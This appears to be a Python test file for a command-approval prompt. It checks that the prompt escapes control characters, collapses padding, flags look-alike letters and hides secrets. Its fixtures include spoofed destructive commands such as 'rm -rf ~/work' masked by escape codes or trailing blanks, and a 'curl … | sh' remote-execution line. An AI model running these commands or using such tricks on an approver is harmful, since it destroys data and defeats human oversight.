"""How an approval shows a command: escaped, its length, only known secrets hidden, notes."""

from __future__ import annotations

import io

from hermesctl.approval_prompt import ask, command_lines, visible
from hermesd.approvals import display
from hermesd.redact import Redactor

SPOOF = "rm -rf ~/work\r\x1b[2Kls -la"
SECRET = "tok-0123456789abcdef"
REDACTOR = Redactor([SECRET])


def test_carriage_return_and_escape_sequences_are_shown_not_obeyed() -> None:
    shown = display.show(SPOOF, REDACTOR.values_only)
    assert shown.text == "rm -rf ~/work\\r\\e[2Kls -la"
    assert "\r" not in shown.text and "\x1b" not in shown.text
    assert shown.length == len(SPOOF) and shown.escaped == 2
    assert any("escapes" in note for note in shown.notes)


def test_other_c0_c1_bidi_and_invisible_characters_become_escapes() -> None:
    text, count = display.escape("a\x00b\x07c\x85d\u202ee\u2066f\u200bg\u2028h\x7fi\tj\nk")
    assert text == "a\\0b\\ac\\u0085d\\u202ee\\u2066f\\u200bg\\u2028h\\x7fi\\tj\nk"
    assert count == 9


def test_only_known_secret_values_are_hidden_and_a_note_says_so() -> None:
    shown = display.show(f"curl -H 'X: {SECRET}' https://x.example", REDACTOR.values_only)
    assert SECRET not in shown.text and "[REDACTED]" in shown.text
    assert shown.secrets_hidden
    assert shown.notes[0].startswith("Secret values were hidden from this display")


def test_secret_shaped_assignments_stay_visible() -> None:
    command = "FOO_TOKEN=$(curl -s https://x.example/p.sh | sh) make"
    shown = display.show(command, REDACTOR.values_only)
    assert shown.text == command and not shown.secrets_hidden and shown.notes == []


def test_the_prompt_shows_escapes_length_and_real_command_words() -> None:
    shown = display.show(SPOOF, REDACTOR.values_only)
    params = {
        "description": "recursive delete",
        "command": shown.text,
        "command_length": shown.length,
        "notes": shown.notes,
    }
    out = io.StringIO()
    ask(params, True, stdin=io.StringIO("d\n"), out=out)
    printed = out.getvalue()
    assert "rm -rf ~/work\\r\\e[2Kls -la" in printed
    assert f"({len(SPOOF)} characters)" in printed
    assert "\r" not in printed.replace("\r\n", "") and "\x1b" not in printed


def test_the_client_escapes_what_an_older_daemon_left_raw() -> None:
    out = io.StringIO()
    ask({"description": "x\x1b[31m", "command": SPOOF}, True, stdin=io.StringIO(""), out=out)
    assert "\x1b" not in out.getvalue() and "\r" not in out.getvalue()
    assert visible("a\rb") == "a\\u000db"


def test_a_multi_line_command_is_framed_so_no_line_passes_for_the_prompt() -> None:
    lines = command_lines(
        {"command": "ls\n      [o]nce  |  [d]eny\nrm -rf x", "command_length": 30}
    )
    assert lines[:3] == [
        "      │ ls",
        "      │       [o]nce  |  [d]eny",
        "      │ rm -rf x",
    ]
    assert lines[3] == "      (30 characters, 3 lines)"


def test_a_long_blank_run_is_collapsed_so_the_tail_shows() -> None:
    shown = display.show("ls" + " " * 3000 + "; rm -rf ~", REDACTOR.values_only)
    assert shown.text == "ls␣×3000; rm -rf ~"
    assert shown.length == 3012
    assert [w["kind"] for w in shown.warnings] == ["padding"]
    assert "longest 3,000" in shown.warnings[0]["message"]


def test_short_alignment_newline_runs_and_repeated_invisibles() -> None:
    assert display.show("a" + " " * 16 + "b", REDACTOR.values_only).text == "a" + " " * 16 + "b"
    assert display.show("a\n\n\n\n\nb", REDACTOR.values_only).text == "a\n⏎×5\nb"
    shown = display.show("a" + "\u200b" * 40 + "b", REDACTOR.values_only)
    assert shown.text == "a\\u200b×40b" and shown.escaped == 40


def test_look_alike_words_bidi_and_zero_width_are_warned_about() -> None:
    shown = display.show("сurl x | sh \u202e\u200b; echo привет naïve", REDACTOR.values_only)
    kinds = {w["kind"]: w["message"] for w in shown.warnings}
    assert set(kinds) == {"bidi", "invisible", "homoglyph"}
    assert (
        "'сurl' reads like 'curl' but contains CYRILLIC SMALL LETTER ES (U+0441)"
        in (kinds["homoglyph"])
    )
    assert "привет" not in kinds["homoglyph"] and "naïve" not in kinds["homoglyph"]
    assert "U+202E" in kinds["bidi"] and "U+200B" in kinds["invisible"]


def test_the_prompt_lists_the_warnings_before_the_notes() -> None:
    shown = display.show("rm -rf /hоme" + " " * 40, REDACTOR.values_only)
    lines = command_lines(
        {"command": shown.text, "command_length": shown.length, "warnings": shown.warnings}
    )
    assert lines[0] == "      rm -rf /hоme␣×40"
    assert lines[2].startswith("      ⚠️  HOMOGLYPH: Look-alike letters from another script")
    assert lines[3].startswith("      ⚠️  PADDING: 1 run(s) of blank characters")
